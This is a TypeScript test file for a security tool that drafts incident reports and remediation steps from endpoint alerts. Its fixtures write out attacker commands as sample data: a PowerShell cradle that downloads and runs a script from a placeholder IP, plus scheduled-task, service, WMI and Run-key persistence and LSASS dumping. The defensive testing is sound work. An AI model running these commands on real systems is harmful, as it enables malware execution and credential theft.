import { draftReport } from '../../../lambdas/core/draft';
import { plain } from '../../../lambdas/core/draft/text';
import type { IncidentReport } from '../../../lambdas/core/model/report';
import type { EnrichedAlert, TechniqueInfo } from '../../../lambdas/core/model/enrichment';
import { incidentOf, sysmonAlert } from './factories';

/** Each playbook family writes steps naming this incident's own artifacts. */

const HOST = { name: 'HR-LT-007.corp.example.com' };
const E = { hostKey: 'hr-lt-007' };
const USER = { name: 'mlopez', domain: 'CORP' };
const steps = (r: IncidentReport): string[] => r.remediation.map((s) => plain(s.text));
const info = (id: string, name: string, tactics: string[]): TechniqueInfo => ({
  id,
  name,
  tactics,
  url: `https://attack.mitre.org/techniques/${id}`,
});

function draftOf(alerts: EnrichedAlert[]): IncidentReport {
  return draftReport(incidentOf('inc-playbook', alerts));
}

describe('remediation playbook', () => {
  it('deletes a scheduled task created with schtasks and names it in the summary', () => {
    const r = draftOf([
      sysmonAlert(
        {
          alertId: 'hr:1',
          eventTime: '2024-03-01T09:00:00.000Z',
          eventType: 'process_create',
          eventCode: 1,
          host: HOST,
          user: USER,
          process: {
            pid: 900,
            image: 'C:\\Windows\\System32\\schtasks.exe',
            commandLine: 'schtasks /Create /SC ONLOGON /TN "OneDrive Sync Helper" /TR "C:\\Users\\Public\\sync.exe" /F',
            parent: { pid: 880, image: 'C:\\Windows\\System32\\cmd.exe' },
          },
        },
        {
          ...E,
          techniques: [
            {
              ...info('T1053.005', 'Scheduled Task', ['execution', 'persistence', 'privilege-escalation']),
              parentId: 'T1053',
              parentName: 'Scheduled Task/Job',
            },
          ],
          severity: { score: 72, reasons: [] },
        },
      ),
    ]);
    expect(r.summary).toBe('T1053.005 – Scheduled Task Persistence on HR-LT-007');
    expect(steps(r)).toContain(
      'Delete scheduled task OneDrive Sync Helper (schtasks /Delete /TN "OneDrive Sync Helper" /F).',
    );
    expect(steps(r)).toContain('Delete C:\\Users\\Public\\sync.exe (keep a copy).');
    expect(r.technicalAnalysis.persistence[0].fields.find((f) => f.label === 'Action')?.value).toBe(
      'C:\\Users\\Public\\sync.exe',
    );
  });

  it('stops and deletes a service and removes a WMI subscription', () => {
    const r = draftOf([
      sysmonAlert(
        {
          alertId: 'hr:2',
          eventTime: '2024-03-01T09:00:00.000Z',
          eventType: 'service_install',
          eventCode: 7045,
          host: HOST,
          service: { name: 'WinDefendHelper', path: 'C:\\ProgramData\\svc\\helper.exe -k' },
        },
        { ...E, severity: { score: 75, reasons: [] } },
      ),
      sysmonAlert(
        {
          alertId: 'hr:3',
          eventTime: '2024-03-01T09:01:00.000Z',
          eventType: 'wmi_event',
          eventCode: 20,
          host: HOST,
          wmi: { operation: 'Created', consumer: 'Updater', destination: 'powershell -enc SQBFAFgA' },
        },
        { ...E, severity: { score: 75, reasons: [] } },
      ),
    ]);
    const s = steps(r);
    expect(s).toContain(
      'Stop and delete service WinDefendHelper (sc.exe stop "WinDefendHelper", then sc.exe delete "WinDefendHelper").',
    );
    expect(s).toContain(
      'Remove the WMI subscription (consumer Updater) and its filter-to-consumer binding from the root\\subscription namespace.',
    );
    expect(s).toContain('Delete C:\\ProgramData\\svc\\helper.exe (keep a copy).');
  });

  it('resets the credentials of logged-on accounts and hunts the dump after LSASS access', () => {
    const r = draftOf([
      sysmonAlert(
        {
          alertId: 'hr:4',
          eventTime: '2024-03-01T09:00:00.000Z',
          eventType: 'process_access',
          eventCode: 10,
          host: HOST,
          user: USER,
          process: { pid: 4242, image: 'C:\\Users\\mlopez\\AppData\\Local\\Temp\\pd64.exe' },
          target: { pid: 640, image: 'C:\\Windows\\System32\\lsass.exe', grantedAccess: '0x1FFFFF' },
        },
        {
          ...E,
          techniques: [
            {
              ...info('T1003.001', 'LSASS Memory', ['credential-access']),
              parentId: 'T1003',
              parentName: 'OS Credential Dumping',
            },
          ],
          severity: { score: 92, reasons: [] },
        },
      ),
    ]);
    expect(r.summary).toBe('T1003.001 – Credential Dumping of LSASS memory by pd64.exe on HR-LT-007');
    expect(r.priority.level).toBe('P1');
    const s = steps(r);
    expect(s[0]).toBe('Isolate HR-LT-007 from the network; keep it powered on for memory evidence.');
    expect(s).toContain(
      'Reset the credentials of every account that has logged on to HR-LT-007 since 2024-03-01 09:00:00Z, starting with privileged accounts: LSASS memory was read by pd64.exe (PID 4242).',
    );
    expect(s.some((x) => x.startsWith('Look on HR-LT-007 for a memory dump written by pd64.exe (PID 4242)'))).toBe(
      true,
    );
    expect(r.remediation.find((x) => plain(x.text).startsWith('Reset the password of mlopez'))?.phase).toBe(
      'containment',
    );
  });

  it('blocks the download URL of a PowerShell cradle, defanged', () => {
    const url = 'http://203.0.113.7/a.ps1';
    const r = draftOf([
      sysmonAlert(
        {
          alertId: 'hr:5',
          eventTime: '2024-03-01T09:00:00.000Z',
          eventType: 'process_create',
          eventCode: 1,
          host: HOST,
          user: USER,
          process: {
            pid: 5150,
            image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
            commandLine: `powershell -nop -c "IEX (New-Object Net.WebClient).DownloadString('${url}')"`,
            parent: { pid: 5100, image: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE' },
          },
        },
        {
          ...E,
          iocs: [{ type: 'url', value: url, defanged: 'hxxp://203.0.113[.]7/a.ps1', role: 'command line url' }],
          severity: { score: 85, reasons: [] },
        },
      ),
    ]);
    expect(steps(r)).toContain(
      'Block hxxp://203.0.113[.]7/a.ps1 at the web proxy (PowerShell downloaded from it) and retrieve what it served for analysis.',
    );
    expect(r.rootCause.vector).toContain('Office document');
    // Live only inside the verbatim command line (a code block); every prose, table and step shows it defanged.
    const prose = JSON.stringify([r.executiveSummary, r.remediation, r.iocs, r.timeline, r.rootCause]);
    expect(prose).not.toContain('http://203.0.113.7');
  });

  it('falls back to confirming with the user when no family has a specific action', () => {
    const r = draftOf([
      sysmonAlert(
        {
          alertId: 'hr:6',
          eventTime: '2024-03-01T09:00:00.000Z',
          eventType: 'process_create',
          eventCode: 1,
          host: HOST,
          user: USER,
          process: {
            pid: 77,
            image: 'C:\\Windows\\System32\\whoami.exe',
            parent: { pid: 70, image: 'C:\\Windows\\System32\\cmd.exe' },
          },
        },
        { ...E, severity: { score: 20, reasons: [] } },
      ),
    ]);
    expect(r.summary).toBe('Suspicious Process Execution: whoami.exe started by cmd.exe on HR-LT-007');
    expect(r.priority).toMatchObject({ level: 'P4', name: 'Low' });
    expect(steps(r)[0]).toBe(
      'Confirm with mlopez and the owner of HR-LT-007 whether this activity was expected; if it was not, isolate the host.',
    );
    expect(steps(r).some((x) => x.startsWith('Reset the password'))).toBe(false);
  });

  it('never asks to reset the password of a system account', () => {
    const r = draftOf([
      sysmonAlert(
        {
          alertId: 'hr:7',
          eventTime: '2024-03-01T09:00:00.000Z',
          eventType: 'registry_value_set',
          eventCode: 13,
          host: HOST,
          user: { name: 'SYSTEM', domain: 'NT AUTHORITY' },
          process: { pid: 900, image: 'C:\\ProgramData\\x\\svc.exe' },
          registry: {
            key: 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater',
            valueData: '"C:\\ProgramData\\x\\svc.exe" /quiet',
          },
        },
        { ...E, severity: { score: 70, reasons: [] } },
      ),
    ]);
    const s = steps(r);
    expect(s.some((x) => x.startsWith('Reset the password'))).toBe(false);
    expect(s).toContain('Delete value Updater under HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run.');
    expect(s).toContain('Delete C:\\ProgramData\\x\\svc.exe (keep a copy).');
  });
});

describe('summary line', () => {
  it('leads with the vendor detection name when no technique is known, saying what its verdict is', () => {
    const r = draftOf([
      sysmonAlert(
        {
          alertId: 'cs:1',
          source: { product: 'crowdstrike', format: 'crowdstrike-alerts-v2', vendorId: 'ldt:1' },
          eventTime: '2024-03-01T09:00:00.000Z',
          eventType: 'detection',
          eventCode: undefined,
          host: HOST,
          rule: { name: 'Trojan:Win32/Ymacco.AA4E\u202E' },
        },
        { ...E, severity: { score: 70, reasons: [] } },
      ),
    ]);
    expect(r.summary).toBe('Malware Detected: \u201cTrojan:Win32/Ymacco.AA4E\\u202E\u201d on HR-LT-007');
  });

  it('counts other hosts and stays within 255 characters', () => {
    const alerts = ['a', 'b', 'c'].map((h, i) =>
      sysmonAlert(
        {
          alertId: `m:${i}`,
          eventTime: `2024-03-01T09:0${i}:00.000Z`,
          eventType: 'network_connect',
          eventCode: 3,
          host: { name: `${h.repeat(300)}-ws` },
          network: { dstIp: '198.51.100.9', dstPort: 8443, direction: 'outbound' },
        },
        { hostKey: `${h.repeat(300)}-ws`, severity: { score: 50, reasons: [] } },
      ),
    );
    const r = draftReport(incidentOf('inc-multi', alerts));
    expect(r.summary.length).toBeLessThanOrEqual(255);
    expect(r.summary).toMatch(/^Suspicious Network Connection on A+ and 2 other hosts$/);
    expect(r.remediation.filter((s) => plain(s.text).startsWith('Isolate')).length).toBe(3);
  });
});
